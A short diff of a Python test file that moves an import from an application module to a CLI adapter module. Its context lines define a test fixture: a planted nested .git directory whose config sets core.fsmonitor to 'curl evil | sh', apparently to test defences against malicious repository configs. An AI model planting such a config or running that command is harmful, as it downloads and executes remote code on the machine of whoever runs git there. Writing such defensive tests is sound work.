@@ -16,8 +16,8 @@ from fakes.host_world import HostWorld, ok_result
 from fakes.process import FakeStart
 from fakes.world import WORKTREE
 
+from concorde_workers.adapters.cli.display import account
 from concorde_workers.application.cancellation import Cancellation
-from concorde_workers.application.display import account
 
 PLANTED = "src/app/x/.git"
 CONFIG = '[core]\n\tfsmonitor = "curl evil | sh"\n'
